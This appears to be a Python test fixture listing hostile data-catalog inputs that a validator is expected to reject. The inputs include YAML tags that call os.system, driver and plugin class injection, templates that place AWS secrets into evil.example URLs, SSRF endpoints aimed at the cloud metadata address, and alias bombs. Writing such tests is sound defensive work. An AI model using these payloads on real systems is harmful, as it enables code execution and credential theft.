"""Catalogs that attack, each with the key that its error names."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from tests.catalog.entries import ENTRY, REFERENCE, changed

MIB = 2**20


SM = ENTRY["metadata"]["variables"]["soil_moisture"]


Command = Callable[..., tuple[int, dict[str, str]]]


def one(**changes: Any) -> str:
    """A catalog of one entry, as YAML that any escape can be written in."""
    return json.dumps({"sources": {"a": changed(**changes)}})


def url(address: Any) -> str:
    return one(args__urlpath=address)


def options(**given: Any) -> str:
    return one(args__storage_options=given)


def reference(**given: Any) -> str:
    return one(args__urlpath="reference://", args__storage_options=REFERENCE | given)


def role(name: str) -> str:
    return one(metadata__variables={name: SM})


def variable(**given: Any) -> str:
    return one(metadata__variables__soil_moisture=SM | given)


def raw(key: str, value: str) -> str:
    """A catalog whose entry has ``key`` written as YAML, not as JSON."""
    return one(**{key: "HERE"}).replace('"HERE"', value)


CODE = [
    ("python apply", "sources: {a: !!python/object/apply:os.system ['touch ran']}", "python"),
    ("python new", "sources: {a: !!python/object/new:os.system ['touch ran']}", "python"),
    ("python name", "sources: {a: !!python/name:os.system }", "python"),
    ("python module", "sources: {a: !!python/module:antigravity }", "python"),
    ("a tag of one's own", "sources: {a: !env AWS_SECRET_ACCESS_KEY}", "tag"),
    ("a tag by a directive", "%TAG ! tag:yaml.org,2002:python/\n--- {sources: {a: !name:os.system x}}", "tag"),
    ("plugins", "plugins: {source: [{module: antigravity}]}\nsources: {}", "plugins"),
    ("plugins of an entry", one(plugins={"source": [{"dir": "."}]}), "plugins"),
    ("import on startup", one(import_on_startup=True), "import_on_startup"),
    ("driver by class", one(driver="subprocess.Popen"), "driver"),
    ("driver by class of intake", one(driver="intake.source.jsonfiles.JSONFileSource"), "driver"),
    ("driver of a chain", one(driver="intake_xarray.xzarr.ZarrSource"), "driver"),
    ("reader by class", one(metadata__reader="os.system"), "metadata.reader"),
    ("preprocess", one(args__xarray_kwargs={"preprocess": "os.system"}), "preprocess"),
    ("engine of a plugin", one(args__xarray_kwargs={"engine": "cfgrib"}), "engine"),
    ("backend arguments", one(args__xarray_kwargs={"backend_kwargs": {"a": 1}}), "backend_kwargs"),
    ("a client's constructor", options(get_client="os.system"), "get_client"),
    ("a session's profile", options(profile="default"), "profile"),
    ("parameters", one(parameters={"x": {"type": "str", "default": "{{ env(HOME) }}"}}), "sources.a"),
    ("a cache that writes", one(cache=[{"argkey": "urlpath", "type": "file"}]), "cache"),
    ("a file of credentials", options(token="/home/me/key.json"), "token"),
]


TEMPLATES = [
    ("env of a secret", url("https://evil.example/{{ env(AWS_SECRET_ACCESS_KEY) }}"), "AWS_SECRET"),
    ("env of the gateway", url("https://evil.example/{{ env(SMCLOUD_GATEWAY_PASSWORD) }}"), "GATEWAY_PASSWORD"),
    ("env of home", url("{{ env(HOME) }}/.aws/credentials"), "HOME"),
    ("env of small letters", url("{{ env(smcloud_place) }}"), "smcloud_place"),
    ("env in a key", one(args__chunks={"{{ env(HOME) }}": 1}), "HOME"),
    ("env in a description", one(description="{{ env(PATH) }}"), "PATH"),
    ("shell", url("{{ shell(touch ran) }}"), "shell"),
    ("a filter", url("{{ env(SMCLOUD_PLACE) | upper }}"), "upper"),
    ("an attribute", url("{{ ''.__class__.__mro__ }}"), "__class__"),
    ("a statement", url("{% for x in range(9) %}x{% endfor %}"), "{%"),
    ("a template in a template", url("{{ env(SMCLOUD_{{ env(HOME) }}) }}"), "HOME"),
    ("intake's function", url("{func(os:system)}"), "func"),
    ("intake's import", url("{import(os)}"), "import"),
    ("intake's pickle", url("{pickle64(gASV)}"), "pickle64"),
    ("client environment", url("{{ client_env(AWS_SECRET_ACCESS_KEY) }}"), "client_env"),
]


SECRETS = [
    ("a password in an address", url("https://me:CANARY-word@host.example/a"), "args.urlpath"),
    ("a password with a slash", url("s3://me:CANARY/word@host.example/a"), "sources.a"),
    ("a signed query of S3", url("https://h.example/a?X-Amz-Signature=CANARY1&X-Amz-Credential=CANARY2"), "sources.a"),
    ("a signed query of Google", url("https://h.example/a?X-Goog-Signature=CANARY"), "sources.a"),
    ("a SAS token", url("https://h.example/a?sv=2024&sig=CANARY%2Fx%3D&se=2030"), "sources.a"),
    ("an old signature", url("https://h.example/a?AWSAccessKeyId=CANARY&Signature=CANARY"), "sources.a"),
    ("a token", url("https://h.example/a?token=CANARY"), "sources.a"),
    ("a signed reference", reference(fo="https://h.example/r.json?sig=CANARY"), "sources.a"),
    ("an option secret", options(secret="CANARY"), "storage_options.secret"),
    ("an option key", options(key="CANARY"), "storage_options.key"),
    ("a token as mapping", options(token={"refresh_token": "CANARY"}), "storage_options.token"),
    ("client_kwargs", options(client_kwargs={"aws_secret_access_key": "CANARY"}), "aws_secret_access_key"),
    ("a bearer", options(client_kwargs={"headers": {"Authorization": "Bearer CANARY"}}), "headers"),
    ("remote_options", reference(remote_options={"secret": "CANARY"}), "remote_options.secret"),
    ("a key in a description", one(description="key AKIAIOSFODNN7EXAMPLE"), "sources.a"),
    ("a password in a citation", one(metadata__citation="https://me:CANARY@host.example"), "sources.a"),
]


SCHEMES = [
    (f"scheme {address}", url(address), "args.urlpath")
    for address in (
        "ftp://h.example/a", "sftp://h.example/a", "ssh://h.example/a", "smb://h.example/a", "hdfs://h.example/a",
        "dask://h.example/a", "github://o:r@main/a", "git://a", "jlab://a", "jupyter://h.example/a", "libarchive://a",
        "webhdfs://h.example/a", "oci://b/a", "hf://datasets/a", "data:text/plain,a", "javascript:1", "S3://b/a", "local://a",
        "simplecache::s3://b/a", "filecache::https://h.example/a", "blockcache::https://h.example/a",
        "zip://a.zarr::https://h.example/a.zip", "tar://a::file:///a.tar", "memory://x::ssh://h.example/a",
        "file:///a.zip::https://h.example/b", "https://h.example\\@evil.example/a", "https://h.example/a\n.evil.example",
    )
]  # fmt: skip


PLACES = [
    ("an endpoint in the clear", options(endpoint_url="http://evil.example"), "endpoint_url"),
    ("an endpoint that looks local", options(endpoint_url="http://localhost.evil.example"), "endpoint_url"),
    ("an endpoint by a user", options(endpoint_url="http://127.0.0.1@evil.example"), "endpoint_url"),
    ("an endpoint in the private net", options(endpoint_url="http://169.254.169.254/latest"), "endpoint_url"),
    ("an endpoint below", options(client_kwargs={"endpoint_url": "http://10.0.0.1"}), "client_kwargs.endpoint_url"),
    ("an endpoint of another scheme", options(endpoint_url="ftp://127.0.0.1"), "endpoint_url"),
    ("an endpoint without a scheme", options(endpoint_url="evil.example:9000"), "endpoint_url"),
    ("a group above", one(args__xarray_kwargs={"group": "../../other.zarr"}), "group"),
    ("an entry's name as path", json.dumps({"sources": {"../../other": ENTRY}}), "sources"),
    ("an entry's name as template", json.dumps({"sources": {"{{ env(HOME) }}": ENTRY}}), "sources"),
    ("a reference in a reference", reference(fo="reference://x"), "fo"),
    ("a reference as mapping", reference(fo={"version": 1}), "fo"),
    ("a protocol of a reference", reference(remote_protocol="ssh"), "remote_protocol"),
    ("template overrides", reference(template_overrides={"u": "x"}), "template_overrides"),
]


ROLES = [
    (f"role {name}", role(name), "metadata.variables")
    for name in (
        "time", "lat", "lon", "year", "month", "driver", "region", "stratum", "class", "provisional", "time_bnds",
        "bnds", "soil_moisture_days", "soil_moisture_uncertainty", "soil_moisture_uncertainty_decaying",
        "soil_moisture_sensors",
        "spatial_ref", "n_months", "kind", "label", "tie", "none", "Lat", "../x", "a" * 65, "",
    )
]  # fmt: skip


FORMS = [
    ("deep lists", "sources: " + "[" * 100_000, "levels"),
    ("deep mappings", "sources: " + "{a: " * 50_000, "levels"),
    ("deep blocks", "- " * 100_000, "levels"),
    ("a long file", "sources: {}\n" + "#" * MIB, "bytes"),
    ("a long text", f"sources: {{a: {'x' * 500_000}}}", "characters"),
    ("many words", f"sources: {{a: {'x ' * 200_000}}}", "characters"),
    ("a long key", f"{'k' * 500_000}: 1", "characters"),
    ("many keys", "".join(f"k{i}: 1\n" for i in range(60_000)), "values"),
    ("many values", f"sources: [{'1,' * 100_000}]", "values"),
    ("an alias", "a: &a {}\nsources: {x: *a}", "alias"),
    ("laughs", "a: &a [x]\nb: &b [*a,*a]\nsources: {x: [*b,*b]}", "alias"),
    ("an endless alias", "sources: &a {x: *a}", "alias"),
    ("a merge", "sources: {a: {<<: {driver: zarr}}}", "merge"),
    ("a key twice", "sources: {a: {}, a: {}}", "twice"),
    ("an escape code", one(description="\x1b[2J\x1b]0;title\x07"), "control"),
    ("an escape code in a key", one(args__chunks={"\x1b[31mtime": 1}), "control"),
    ("a NUL", url("/data/a\x00.nc"), "control"),
    ("a bidi override", one(description="\u202egnp.exe"), "control"),
    ("a bidi isolate in a name", one(metadata__variables={"soil\u2066moisture": SM}), "control"),
    ("a raw escape", "sources: {a: \x1b[31m}", "control"),
    ("a broken letter", b"sources: {a: \xff\xfe}", "YAML"),
    ("two documents", "sources: {}\n---\nsources: {}", "document"),
    ("a list as key", "sources: {[a]: b}", "unhashable"),
    ("an integer of 400 digits", variable(scale=1).replace('"scale": 1', '"scale": ' + "9" * 400), "64 bits"),
    ("an integer of 9000 digits", variable(scale=1).replace('"scale": 1', '"scale": ' + "9" * 9000), "64 bits"),
    ("no mapping", "- a", "mapping"),
    ("nothing", "", "mapping"),
]


TYPES = [
    ("overflow", variable(scale=1).replace('"scale": 1', '"scale": 1.0e999'), "scale"),
    ("infinity", variable(scale=1).replace('"scale": 1', '"scale": .inf'), "scale"),
    ("not a number", variable(valid_range=[0, 7]).replace("7", ".nan"), "valid_range"),
    ("infinite range", variable(valid_range=[0, 7]).replace("7", ".inf"), "valid_range"),
    ("a time as number", variable(coverage_change=7).replace("7", "12:30"), "coverage_change"),
    ("sources as list", "sources: [a]", "form"),
    ("entry as text", "sources: {a: b}", "sources.a"),
    ("entry as nothing", "sources: {a: }", "sources.a"),
    ("args as list", one(args=[]), "args"),
    ("urlpath as number", url(7), "urlpath"),
    ("urlpath as mapping", url({"a": "b"}), "urlpath"),
    ("no urlpath", url([]), "urlpath"),
    ("an address that is a list", url([["a"]]), "urlpath"),
    ("chunks as text", one(args__chunks="auto"), "chunks"),
    ("a chunk of -5", one(args__chunks={"time": -5}), "chunks"),
    ("a chunk without end", one(args__chunks={"time": 2**40}), "chunks"),
    ("variables as list", one(metadata__variables=[SM]), "variables"),
    ("a variable as text", one(metadata__variables={"soil_moisture": "sm"}), "variables"),
    ("anon as word", raw("args", '{"urlpath": "a", "storage_options": {"anon": no}}'), "anon"),
    ("consolidated as word", raw("args", '{"urlpath": "a", "xarray_kwargs": {"consolidated": no}}'), "consolidated"),
    ("a description as list", one(description=["a"]), "description"),
    ("a range of three", variable(valid_range=[0, 1, 2]), "valid_range"),
    ("fill as text", variable(fill="many"), "fill"),
    ("legend by words", variable(aggregate="class", legend={"water": "x"}), "legend"),
    ("a list where a text is due", variable(units=["K"]), "units"),
    ("a unit that is computed", variable(units="m**9**9**9**9"), "units"),
    ("a unit of many digits", variable(units="m^99999999"), "units"),
    ("a unit in brackets", variable(attr_units="(((9^9 m)^9 m)^9 m)^9"), "attr_units"),
    ("a unit without end", variable(units="m " * 5000), "units"),
    ("entries of another version", "data: {}\nentries: {}\nversion: 2", "form"),
]


ALL = [*CODE, *TEMPLATES, *SECRETS, *SCHEMES, *PLACES, *ROLES, *FORMS, *TYPES]
